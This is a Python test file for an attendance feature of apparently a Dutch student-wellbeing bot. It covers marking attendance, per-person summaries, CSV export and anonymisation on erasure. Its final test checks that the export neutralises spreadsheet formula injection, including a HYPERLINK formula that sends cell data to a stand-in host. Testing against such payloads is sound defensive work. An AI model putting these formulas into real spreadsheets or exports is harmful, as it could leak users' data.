"""After a session the coordinator marks who came, reads per-VCP attendance over a
period and exports CSV; a VCP's erasure keeps the totals without them."""

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from sqlalchemy import select, update

from tests.services.intervisie.steps import (
    ADVISER,
    AHMED,
    AMS,
    LIV,
    NOW,
    POLICY,
    SANNE,
    answer,
    build_network,
    plan,
)
from vcpbot.db import Database
from vcpbot.db.intervisie import IntervisieInvitation, IntervisieReminder, IntervisieSession
from vcpbot.db.network import Association, Vcp
from vcpbot.errors import Conflict, InvalidInput
from vcpbot.services import intervisie
from vcpbot.services.intervisie import Invitees, Rsvp
from vcpbot.services.privacy import erase_user

FIRST = datetime(2026, 9, 15, 19, 30, tzinfo=AMS)
SECOND = datetime(2026, 10, 13, 19, 30, tzinfo=AMS)
AFTER = datetime(2026, 10, 14, 12, 0, tzinfo=UTC)
TERM = (datetime(2026, 9, 1, tzinfo=AMS), datetime(2027, 2, 1, tzinfo=AMS))


@pytest.fixture
async def world(db: Database) -> Database:
    await build_network(db)
    return db


async def _mark(db: Database, session_id: int, present: list[int], now=AFTER):
    async with db.sessions.begin() as session:
        return await intervisie.mark_attendance(
            session, session_id=session_id, attended=present, now=now, policy=POLICY
        )


async def _two_sessions(db: Database) -> tuple[int, int]:
    first = await plan(db, FIRST, invitees=Invitees.everyone(), title="=Intervisie 1")
    second = await plan(db, SECOND, invitees=Invitees.of_associations("Tragos"))
    by_user = {i.user_id: i for i in first.invitations}
    await answer(db, by_user[SANNE], Rsvp.YES)
    await answer(db, by_user[LIV], Rsvp.NO)
    return first.sessions[0].id, second.sessions[0].id


async def test_attendance_is_marked_after_the_start_with_walk_ins(world: Database) -> None:
    first, _ = await _two_sessions(world)
    with pytest.raises(Conflict) as caught:
        await _mark(world, first, [SANNE], now=FIRST - timedelta(minutes=1))
    assert caught.value.key == "intervisie.error.not_started"
    # Sanne came, Ahmed and Liv did not; a UM adviser joined without an invitation.
    details = await _mark(world, first, [SANNE, ADVISER], now=FIRST + timedelta(hours=2))
    assert {i.user_id: i.attended for i in details.invitations} == {
        SANNE: True,
        AHMED: False,
        LIV: False,
        ADVISER: True,
    }
    # Marking again replaces the earlier marks.
    details = await _mark(world, first, [AHMED])
    assert {i.user_id for i in details.invitations if i.attended} == {AHMED}


async def test_attendance_of_a_cancelled_session_cannot_be_marked(world: Database) -> None:
    planned = await plan(world, FIRST)
    async with world.sessions.begin() as session:
        await intervisie.cancel_session(
            session, session_id=planned.sessions[0].id, reason=None, now=NOW
        )
    with pytest.raises(Conflict):
        await _mark(world, planned.sessions[0].id, [SANNE])


async def test_per_vcp_attendance_over_a_period(world: Database) -> None:
    first, second = await _two_sessions(world)
    await _mark(world, first, [SANNE, AHMED])
    await _mark(world, second, [SANNE])
    async with world.sessions.begin() as session:
        summary = await intervisie.attendance_summary(session, start=TERM[0], end=TERM[1])
        september = await intervisie.attendance_summary(
            session, start=TERM[0], end=datetime(2026, 10, 1, tzinfo=AMS)
        )
        with pytest.raises(InvalidInput):
            await intervisie.attendance_summary(session, start=TERM[1], end=TERM[0])
    rows = {a.user_id: a for a in summary}
    assert (rows[SANNE].invited, rows[SANNE].attended, rows[SANNE].absent) == (2, 2, 0)
    assert (rows[AHMED].invited, rows[AHMED].attended, rows[AHMED].absent) == (2, 1, 1)
    assert (rows[LIV].invited, rows[LIV].attended, rows[LIV].absent) == (1, 0, 1)
    assert rows[SANNE].display_name == "Sanne"
    assert rows[SANNE].association_name == "Studentenvereniging Tragos"
    assert {a.user_id: a.invited for a in september} == {SANNE: 1, AHMED: 1, LIV: 1}


async def test_the_export_has_sessions_and_attendance_and_no_formulas(world: Database) -> None:
    first, _ = await _two_sessions(world)
    await _mark(world, first, [SANNE])
    cancelled = await plan(world, SECOND + timedelta(days=7))
    async with world.sessions.begin() as session:
        await intervisie.cancel_session(
            session, session_id=cancelled.sessions[0].id, reason="Tentamenweek", now=NOW
        )
        export = await intervisie.export_csv(session, start=TERM[0], end=TERM[1])
    sessions = list(csv.DictReader(io.StringIO(export.sessions_csv)))
    assert [(s["date"], s["start"], s["end"], s["status"]) for s in sessions] == [
        ("2026-09-15", "19:30", "21:00", "planned"),
        ("2026-10-13", "19:30", "21:00", "planned"),
        ("2026-10-20", "19:30", "21:00", "cancelled"),
    ]
    # A title that a spreadsheet would run as a formula is written as text.
    assert sessions[0]["title"] == "'=Intervisie 1"
    assert sessions[0]["invited"] == "3" and sessions[0]["yes"] == "1" and sessions[0]["no"] == "1"
    assert sessions[0]["attended"] == "1" and sessions[0]["absent"] == "2"
    assert sessions[1]["not_marked"] == "2"
    assert sessions[2]["cancel_reason"] == "Tentamenweek"
    attendance = list(csv.DictReader(io.StringIO(export.attendance_csv)))
    first_rows = {r["name"]: r for r in attendance if r["date"] == "2026-09-15"}
    assert first_rows["Sanne"]["answer"] == "yes" and first_rows["Sanne"]["attended"] == "yes"
    assert first_rows["Liv"]["answer"] == "no" and first_rows["Liv"]["attended"] == "no"
    assert first_rows["Liv"]["association"] == "Saurus"
    assert first_rows["Sanne"]["user_id"] == str(SANNE)
    # Nothing the coordinator should not see: no button tokens, no reminder settings.
    assert set(attendance[0]) == {
        "date",
        "start",
        "title",
        "status",
        "user_id",
        "name",
        "association",
        "answer",
        "attended",
    }
    async with world.sessions.begin() as session:
        tokens = [
            i.token
            for i in (await intervisie.session_details(session, session_id=first)).invitations
        ]
    assert not any(token in export.attendance_csv for token in tokens)


async def test_erasure_deletes_upcoming_invitations_and_anonymises_recorded_attendance(
    world: Database,
) -> None:
    first, second = await _two_sessions(world)
    upcoming = await plan(world, datetime(2026, 12, 1, 19, 30, tzinfo=AMS))
    await _mark(world, first, [SANNE, AHMED])
    async with world.sessions.begin() as session:
        await intervisie.set_reminders_enabled(
            session, user_id=SANNE, enabled=False, now=NOW, policy=POLICY
        )
    async with world.sessions.begin() as session:
        removed = await erase_user(session, SANNE)
    assert "privacy.removed.intervisie_invitations" in removed
    assert "privacy.removed.intervisie_preferences" in removed
    async with world.sessions.begin() as session:
        first_details = await intervisie.session_details(session, session_id=first)
        second_details = await intervisie.session_details(session, session_id=second)
        upcoming_details = await intervisie.session_details(
            session, session_id=upcoming.sessions[0].id
        )
        mine = await intervisie.my_sessions(session, user_id=SANNE, now=NOW)
        summary = await intervisie.attendance_summary(session, start=TERM[0], end=TERM[1])
        export = await intervisie.export_csv(session, start=TERM[0], end=TERM[1])
    # Her recorded attendance still counts, without her.
    anonymous = [i for i in first_details.invitations if i.user_id is None]
    assert len(anonymous) == 1
    assert anonymous[0].attended is True and anonymous[0].association_id is None
    assert sum(1 for i in first_details.invitations if i.attended) == 2
    # Unmarked and upcoming invitations are gone, with their reminders.
    assert SANNE not in {i.user_id for i in second_details.invitations}
    assert upcoming_details.invitations == ()
    assert mine == [] and SANNE not in {a.user_id for a in summary}
    assert str(SANNE) not in export.attendance_csv
    async with world.sessions.begin() as session:
        left = await session.scalars(
            select(IntervisieInvitation.user_id)
            .join(IntervisieReminder, IntervisieReminder.invitation_id == IntervisieInvitation.id)
            .distinct()
        )
        assert set(left.all()) == {AHMED, LIV}
    async with world.sessions.begin() as session:
        assert await erase_user(session, SANNE) == []


async def test_recent_sessions_are_the_started_ones_latest_first(world: Database) -> None:
    first, second = await _two_sessions(world)
    async with world.sessions.begin() as session:
        assert await intervisie.recent_sessions(session, now=NOW) == []
        views = await intervisie.recent_sessions(session, now=AFTER)
    assert [v.id for v in views] == [second, first]


# A spreadsheet runs a cell that starts with one of these as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULA_NAMES = [
    '=HYPERLINK("https://example.org/?"&A1,"Open")',
    "+31 6 12345678",
    "-1+2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("name", FORMULA_NAMES)
async def test_no_name_in_the_intervisie_export_can_run_as_a_formula(
    world: Database, name: str
) -> None:
    """A VCP's name, an association's, a session's title, place and reason for
    cancelling: whatever they start with, the coordinator's spreadsheet shows text."""
    first, _ = await _two_sessions(world)
    async with world.sessions.begin() as session:
        await intervisie.cancel_session(session, session_id=first, reason=name, now=NOW)
        # As stored, whichever way it got there (the commands tidy spaces away).
        await session.execute(
            update(IntervisieSession).values(title=name, location=name, cancel_reason=name)
        )
        await session.execute(update(Vcp).values(display_name=name))
        await session.execute(update(Association).values(name=name))
    async with world.sessions.begin() as session:
        export = await intervisie.export_csv(session, start=TERM[0], end=TERM[1])
    for text in (export.sessions_csv, export.attendance_csv):
        cells = _cells(text)
        assert "'" + name in cells
        assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    sessions = list(csv.DictReader(io.StringIO(export.sessions_csv)))
    assert {s["title"] for s in sessions} == {"'" + name}
    assert sessions[0]["location"] == sessions[0]["cancel_reason"] == "'" + name
    attendance = list(csv.DictReader(io.StringIO(export.attendance_csv)))
    assert {r["name"] for r in attendance if r["user_id"]} == {"'" + name}
    assert {r["association"] for r in attendance if r["user_id"]} == {"'" + name}
